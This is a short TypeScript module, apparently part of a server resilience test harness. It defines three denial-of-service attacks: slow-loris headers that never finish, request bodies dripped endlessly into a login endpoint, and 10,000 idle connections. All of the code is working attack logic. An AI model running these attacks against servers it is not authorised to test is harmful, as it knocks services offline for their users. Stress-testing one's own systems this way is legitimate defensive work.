import { once } from 'node:events'
import { setTimeout as pause } from 'node:timers/promises'
import { keepConnections, open, post, type Attack } from './attack.ts'

const CONNECTIONS = 2000
const IDLE_CONNECTIONS = 10_000

export const slowHeads: Attack = {
  name: 'slow-loris: 2,000 heads that never end',
  run: ({ address }, strength, over) =>
    keepConnections(address, CONNECTIONS * strength, over, {
      first: 'POST /validate HTTP/1.1\r\nHost: x\r\nX-A: ',
      more: 'a',
      everyMs: 500,
    }),
}

export const dripping: Attack = {
  name: '2,000 bodies that never end',
  run: ({ address }, strength, over) =>
    keepConnections(address, CONNECTIONS * strength, over, {
      first: post('/auth/login', '{"email":"', 60_000),
      more: 'a'.repeat(64),
      everyMs: 500,
    }),
}

export const idle: Attack = {
  name: '10,000 idle connections',
  async run({ address }, strength, over) {
    const sockets = []
    for (let count = 0; count < IDLE_CONNECTIONS * strength && !over.aborted; count += 1) {
      sockets.push(open(address).resume())
      if (count % 100 === 0) await pause(1)
    }
    if (!over.aborted) await once(over, 'abort')
    for (const socket of sockets) socket.destroy()
  },
}
